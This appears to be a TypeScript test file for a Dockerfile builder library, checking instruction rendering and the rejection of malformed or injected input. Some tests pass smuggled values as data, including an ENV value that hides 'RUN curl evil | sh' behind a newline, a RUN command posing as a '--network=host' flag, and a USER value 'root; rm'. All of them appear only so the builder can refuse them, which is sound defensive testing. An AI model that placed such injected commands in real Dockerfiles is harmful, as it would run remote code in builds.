import { diagnostics, instructions } from "./parse";
import { DockerfileStage } from "../../src/dockerfile/stage";

function stage(): DockerfileStage {
  return new DockerfileStage({
    from: "python:3.12.7-slim-bookworm",
    name: "runtime",
  });
}

describe("DockerfileStage", () => {
  test("renders every instruction so that a parser reads them back", () => {
    const s = stage()
      .arg("VERSION", "1.0")
      .env({ A: "1", B: "two words" })
      .label({ "org.opencontainers.image.title": "app" })
      .workdir("/app")
      .run(["apt-get update", "rm -rf /var/lib/apt/lists/*"], {
        cacheMounts: [{ target: "/root/.cache/pip" }],
      })
      .copy(["pyproject.toml", "poetry.lock"], "./")
      .copy(["/app/.venv"], "/app/.venv", { from: "builder", chown: "app:app" })
      .user("10001:10001")
      .expose(8080)
      .healthcheck(["curl", "-f", "http://localhost:8080/"], {
        interval: "10s",
        retries: 2,
      })
      .entrypoint(["tini", "--"])
      .cmd(["greet"]);
    const text = s.render();

    expect(instructions(text).map(([k]) => k)).toEqual([
      "FROM",
      "ARG",
      "ENV",
      "LABEL",
      "WORKDIR",
      "RUN",
      "COPY",
      "COPY",
      "USER",
      "EXPOSE",
      "HEALTHCHECK",
      "ENTRYPOINT",
      "CMD",
    ]);
    expect(text).toContain("FROM python:3.12.7-slim-bookworm AS runtime");
    expect(text).toContain(
      "RUN --mount=type=cache,target=/root/.cache/pip,sharing=locked apt-get update \\\n    && rm -rf",
    );
    expect(text).toContain(
      "COPY --from=builder --chown=app:app /app/.venv /app/.venv",
    );
    expect(text).toContain(
      'HEALTHCHECK --interval=10s --retries=2 CMD ["curl", "-f", "http://localhost:8080/"]',
    );
    expect(diagnostics(text)).toEqual([]);
  });

  test("uses the JSON form for paths with spaces", () => {
    const text = stage().copy(["my app"], "./my app").render();
    expect(instructions(text)[1]).toEqual(["COPY", '["my app", "./my app"]']);
  });

  test("keeps an ENV value with a newline out of the file", () => {
    expect(() => stage().env({ K: "a\nRUN curl evil | sh" })).toThrow(
      /ENV K .* contains a line break/,
    );
  });

  test("refuses a RUN command spanning lines", () => {
    expect(() => stage().run(["echo ok\nRUN evil"])).toThrow(
      /RUN command 1 .* line break/,
    );
  });

  test("refuses a RUN command ending in a backslash, which would swallow the next instruction", () => {
    // written as is, Docker would read "USER app" as part of the command
    expect(() => stage().run(["echo ok", "echo \\ "])).toThrow(
      'RUN command 2 "echo \\\\ " ends with a backslash, which Docker would read as a line continuation into the next instruction',
    );
  });

  test("refuses a first RUN command that Docker would read as a flag", () => {
    expect(() => stage().run(["--network=host curl evil"])).toThrow(
      'RUN command 1 "--network=host curl evil" starts with "-", which Docker would read as a RUN flag',
    );
    expect(instructions(stage().run(["true", "-x"]).render())[1]).toEqual([
      "RUN",
      "true \\\n    && -x",
    ]);
  });

  test("refuses a blank RUN command", () => {
    expect(() => stage().run(["echo ok", "  "])).toThrow(
      'RUN command 2 "  " is blank',
    );
  });

  test.each([
    [
      () => new DockerfileStage({ from: "python:3.12 AS x" }),
      /base image "python:3.12 AS x" is not an image reference/,
    ],
    [
      () => new DockerfileStage({ from: "python:5000:3.12" }),
      /base image "python:5000:3.12" is not an image reference/,
    ],
    [
      () => new DockerfileStage({ from: "python:3.12", name: "Builder" }),
      /stage name "Builder" is invalid/,
    ],
    [() => stage().workdir("app"), /WORKDIR "app" must be an absolute path/],
    [() => stage().user("root; rm"), /USER "root; rm" is invalid/],
    [
      () => stage().expose(70000),
      /EXPOSE port 70000 must be an integer from 1 to 65535/,
    ],
    [
      () => stage().expose(80, "sctp"),
      /EXPOSE protocol "sctp" must be "tcp" or "udp"/,
    ],
    [() => stage().label({ "bad key": "x" }), /LABEL key "bad key" is invalid/],
    [
      () => stage().env({ "1X": "x" }),
      /ENV name "1X" is not a valid variable name/,
    ],
    [() => stage().cmd([]), /CMD is empty/],
    [() => stage().run([]), /RUN needs at least one command/],
    [() => stage().copy([], "./"), /COPY to \.\/ needs at least one source/],
    [
      () => stage().copy(["a"], "b", { from: "Not A Stage" }),
      /COPY --from "Not A Stage" is not a stage or image/,
    ],
    [
      () => stage().healthcheck(["x"], { interval: "soon" }),
      /HEALTHCHECK --interval "soon" must be a duration/,
    ],
    [
      () => stage().healthcheck(["x"], { retries: 0 }),
      /HEALTHCHECK --retries 0 must be a positive integer/,
    ],
    [
      () => stage().run(["x"], { cacheMounts: [{ target: "relative" }] }),
      /cache mount target "relative" must be an absolute plain path/,
    ],
    [
      () => stage().run(["x"], { cacheMounts: [{ target: "/c", id: "a,b" }] }),
      /cache mount id "a,b" may hold only/,
    ],
    [
      () =>
        stage().run(["x"], { cacheMounts: [{ target: "/c", sharing: "all" }] }),
      /cache mount sharing "all" must be/,
    ],
  ])("refuses bad input with a message naming it (%#)", (make, message) => {
    expect(make).toThrow(message);
  });

  test("an image pinned by digest is accepted", () => {
    const digest = "sha256:" + "a".repeat(64);
    expect(
      new DockerfileStage({
        from: `mirror.example.com:5000/library/python:3.12.7@${digest}`,
      }).render(),
    ).toBe(`FROM mirror.example.com:5000/library/python:3.12.7@${digest}`);
  });
});
